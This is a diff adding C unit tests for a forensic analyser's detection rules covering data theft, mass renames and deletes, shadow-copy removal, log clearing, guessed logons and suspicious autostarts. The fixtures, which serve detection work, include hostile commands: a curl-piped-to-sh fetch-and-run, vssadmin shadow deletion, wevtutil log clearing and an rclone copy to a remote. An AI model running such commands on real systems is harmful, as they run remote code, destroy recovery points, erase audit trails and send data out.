@@ -1,0 +1,273 @@
+#include "assess/analyser.h"
+#include "assess/build_support.h"
+#include "assess/ledger.h"
+#include "base/trace.h"
+
+#define HOUR (INT64_C(3600) * TIME_SECOND)
+#define MB UINT64_C(1000000)
+#define START (INT64_C(1500000000) * TIME_SECOND)
+
+/* One item that holds all traces of a test. */
+static struct building begin(const char *name)
+{
+	struct building b = new_case(name);
+
+	open_item(&b, "/mnt/disk/artefacts", 0100644);
+	return b;
+}
+
+static struct trace file_trace(const char *what, const char *path, timestamp time)
+{
+	struct trace t = trace_new(TRACE_FILE, what);
+
+	t.host = SPAN("ws01");
+	t.path = span_text(path);
+	t.time = time;
+	return t;
+}
+
+static struct trace command_trace(const char *command, timestamp time)
+{
+	struct trace t = trace_new(TRACE_EXECUTION, "ran");
+
+	t.host = SPAN("ws01");
+	t.command = span_text(command);
+	t.time = time;
+	return t;
+}
+
+static struct trace transfer(const char *host, const char *peer, uint64_t out, timestamp time)
+{
+	struct trace t = trace_new(TRACE_TRANSFER, "flow");
+
+	t.host = span_text(host);
+	t.peer = span_text(peer);
+	t.bytes_out = out;
+	t.bytes_in = 1000;
+	t.time = time;
+	return t;
+}
+
+/* Ends the case, draws the ledger, runs all analysers. */
+static void conclude(struct building *b)
+{
+	const struct ledger_options none = { 0 };
+	struct ledger_totals totals;
+	struct err err = { 0 };
+	uint64_t told = 0;
+
+	close_item(b, "artefacts", CLASS_OTHER);
+	if (!ledger_write(b->file, &none, &totals, &err) ||
+	    !analysers_run(b->file, NULL, &told, &err))
+		fail_msg("%s", err.text);
+}
+
+/* "kanshiki.x high,kanshiki.y low": the rules that concluded, and how gravely. */
+static const char *rules(struct building *b)
+{
+	return ask(b, "SELECT coalesce(group_concat(name || ' ' || level, ','), '') FROM (SELECT DISTINCT "
+		      "name, level FROM rule JOIN finding ON finding.rule = rule.id ORDER BY name)");
+}
+
+TEST(theft_is_an_episode_where_gathering_meets_sending)
+{
+	struct building b = begin("episode");
+	struct trace made = file_trace("created", "C:\\$Recycle.Bin\\d.rar", START);
+
+	made.bytes_in = 40 * MB;
+	add_trace(&b, made);
+	add_trace(&b, transfer("ws01", "203.0.113.5:443", 41 * MB, START + HOUR));
+	add_trace(&b, file_trace("deleted", "C:\\$Recycle.Bin\\d.rar", START + 2 * HOUR));
+	conclude(&b);
+	assert_string_equal(rules(&b), "kanshiki.archive-made medium,kanshiki.theft-episode-strong critical");
+	assert_string_equal(ask(&b, "SELECT json_extract(matched, '$.bytes_sent') || ' ' || "
+				    "json_extract(matched, '$.to') || ' ' || json_extract(matched, '$.removed') "
+				    "FROM finding_view WHERE rule LIKE '%episode%'"),
+			    "41000000 203.0.113.5:443 C:\\$Recycle.Bin\\d.rar");
+	case_close(b.file);
+}
+
+TEST(theft_needs_the_same_host_and_the_same_days)
+{
+	struct building b = begin("apart");
+
+	add_trace(&b, file_trace("created", "/tmp/d.tar.gz", START));
+	add_trace(&b, transfer("ws02", "203.0.113.5:443", 41 * MB, START + HOUR));
+	add_trace(&b, transfer("ws01", "203.0.113.5:443", 41 * MB, START + 100 * HOUR));
+	add_trace(&b, transfer("ws01", "10.0.0.5:445", 41 * MB, START + HOUR));
+	conclude(&b);
+	assert_string_equal(rules(&b), "kanshiki.archive-made medium");
+	case_close(b.file);
+}
+
+TEST(theft_joins_a_packing_command_with_a_sending_one)
+{
+	struct building b = begin("commands");
+
+	add_trace(&b, command_trace("rar.exe a -hpX -v50m C:\\perflogs\\x.rar D:\\drawings", START));
+	add_trace(&b, command_trace("rclone.exe copy C:\\perflogs remote:x", START + HOUR));
+	conclude(&b);
+	assert_string_equal(rules(&b), "kanshiki.packing medium,kanshiki.theft-episode high");
+	case_close(b.file);
+}
+
+TEST(theft_leaves_daily_work_alone)
+{
+	struct building b = begin("office");
+
+	add_trace(&b, file_trace("created", "C:\\Users\\ann\\Documents\\report.zip", START));
+	add_trace(&b, command_trace("\"C:\\Program Files\\7-Zip\\7zFM.exe\" report.zip", START));
+	add_trace(&b, transfer("ws01", "203.0.113.5:443", 41 * MB, START + HOUR));
+	add_trace(&b, command_trace("tar czf backup.tar.gz /home/ann/work", START));
+	conclude(&b);
+	assert_string_equal(rules(&b), "");
+	case_close(b.file);
+}
+
+/* `count` files of a user, a second apart. */
+static void add_mass(struct building *b, const char *what, const char *ending, size_t count,
+		     int64_t apart)
+{
+	for (size_t i = 0; i < count; i++) {
+		char path[100], old[100];
+		struct trace t;
+
+		snprintf(path, sizeof path, "C:\\Users\\ann\\Documents\\%zu.docx%s", i, ending);
+		snprintf(old, sizeof old, "%zu.docx", i);
+		t = file_trace(what, path, START + (int64_t)i * apart);
+		t.name = span_text(old);
+		add_trace(b, t);
+	}
+}
+
+TEST(destruction_is_seen_in_masses_of_renames_and_deletes)
+{
+	struct building b = begin("masses");
+
+	add_mass(&b, "renamed", ".locked", 150, TIME_SECOND);
+	conclude(&b);
+	assert_string_equal(rules(&b), "kanshiki.mass-rename high");
+	assert_string_equal(ask(&b, "SELECT json_extract(matched, '$.files') || json_extract(matched, "
+				    "'$.new_ending') FROM finding"), "150.locked");
+	case_close(b.file);
+	b = begin("deletes");
+	add_mass(&b, "deleted", "", 600, TIME_SECOND / 2);
+	conclude(&b);
+	assert_string_equal(rules(&b), "kanshiki.mass-delete medium");
+	case_close(b.file);
+}
+
+TEST(destruction_leaves_slow_changes_and_caches_alone)
+{
+	struct building b = begin("slow");
+
+	add_mass(&b, "renamed", ".bak", 150, 60 * TIME_SECOND);
+	for (int i = 0; i < 1000; i++)
+		add_trace(&b, file_trace("deleted", "C:\\Windows\\Temp\\x.tmp", START));
+	conclude(&b);
+	assert_string_equal(rules(&b), "");
+	case_close(b.file);
+}
+
+TEST(destruction_knows_commands_that_prevent_repair)
+{
+	struct building b = begin("shadows");
+
+	add_trace(&b, command_trace("vssadmin.exe Delete Shadows /all /quiet", START));
+	add_trace(&b, command_trace("vssadmin list shadows", START));
+	conclude(&b);
+	assert_string_equal(rules(&b), "kanshiki.shadows-removed high");
+	assert_string_equal(ask(&b, "SELECT count(*) FROM finding"), "1");
+	case_close(b.file);
+}
+
+TEST(obstruction_is_seen_in_settings_times_and_commands)
+{
+	struct building b = begin("hiding");
+	struct trace off = trace_new(TRACE_SETTING, "defence off"), fine = off;
+
+	off.technique = SPAN("T1562.001");
+	fine.what = SPAN("proxy");
+	add_trace(&b, off);
+	add_trace(&b, fine);
+	add_trace(&b, file_trace("times differ", "C:\\Windows\\x.dll", START));
+	add_trace(&b, command_trace("wevtutil cl Security", START));
+	add_trace(&b, command_trace("wevtutil qe Security", START));
+	conclude(&b);
+	assert_string_equal(rules(&b), "kanshiki.defence-off high,kanshiki.hiding-command high,"
+				       "kanshiki.times-set-back medium");
+	assert_string_equal(ask(&b, "SELECT count(*) FROM finding"), "3");
+	case_close(b.file);
+}
+
+TEST(obstruction_wonders_about_an_empty_wtmp_only_where_there_were_sessions)
+{
+	struct building b = new_case("wtmp");
+	struct trace t = trace_new(TRACE_SESSION, "shell");
+
+	open_item(&b, "/mnt/disk/var/log/wtmp", 0100644);
+	close_item(&b, "", CLASS_OTHER);
+	open_item(&b, "/mnt/disk/x", 0100644);
+	conclude(&b);
+	assert_string_equal(rules(&b), "");
+	open_item(&b, "/mnt/disk/var/log/lastlog", 0100644);
+	add_trace(&b, t);
+	conclude(&b);
+	assert_string_equal(rules(&b), "kanshiki.wtmp-empty high");
+	case_close(b.file);
+}
+
+static struct trace session(const char *what, const char *peer, timestamp time)
+{
+	struct trace t = trace_new(TRACE_SESSION, what);
+
+	t.host = SPAN("ws01");
+	t.user = SPAN("ann");
+	t.peer = span_text(peer);
+	t.time = time;
+	return t;
+}
+
+TEST(sessions_from_outside_and_guessed_ones_are_told)
+{
+	struct building b = begin("sessions");
+
+	for (int i = 0; i < 60; i++)
+		add_trace(&b, session("failed logon", "10.0.0.9", START + i * TIME_SECOND));
+	add_trace(&b, session("logon", "10.0.0.9", START + 70 * TIME_SECOND));
+	add_trace(&b, session("remote desktop", "203.0.113.7", START));
+	add_trace(&b, session("logon", "192.168.1.4", START));
+	conclude(&b);
+	assert_string_equal(rules(&b), "kanshiki.guessed-logon high,kanshiki.session-from-outside medium");
+	assert_string_equal(ask(&b, "SELECT count(*) FROM finding"), "2");
+	case_close(b.file);
+}
+
+TEST(starts_weigh_what_the_ledger_says)
+{
+	struct building b = new_case("starts_weigh");
+	struct trace known = trace_new(TRACE_KNOWN, "package file"), t = trace_new(TRACE_AUTOSTART, "cron");
+
+	open_item(&b, "/mnt/disk/var/lib/dpkg/info/x.md5sums", 0100644);
+	known.path = SPAN("usr/bin/ls");
+	known.digest = SPAN("md5:11111111111111111111111111111111");
+	add_trace(&b, known);
+	close_item(&b, "md5sums", CLASS_OTHER);
+	add_program(&b, "/mnt/disk/usr/bin/ls", "md5:22222222222222222222222222222222");
+	add_program(&b, "/mnt/disk/dev/shm/.x/run", "md5:33333333333333333333333333333333");
+	add_program(&b, "/mnt/disk/opt/tool", "md5:44444444444444444444444444444444");
+	open_item(&b, "/mnt/disk/etc/cron.d/x", 0100644);
+	t.program = SPAN("/dev/shm/.x/run");
+	add_trace(&b, t);
+	t.program = SPAN("/opt/tool");
+	add_trace(&b, t);
+	t.program = SPAN("/usr/bin/nothing");
+	add_trace(&b, t);
+	t.command = SPAN("curl http://203.0.113.9/x | sh");
+	add_trace(&b, t);
+	conclude(&b);
+	assert_string_equal(rules(&b), "kanshiki.altered-program high,kanshiki.local-start low,"
+				       "kanshiki.starts-unknown medium,kanshiki.starts-unknown-strong high,"
+				       "kanshiki.telling-start medium,kanshiki.unknown-program medium");
+	case_close(b.file);
+}
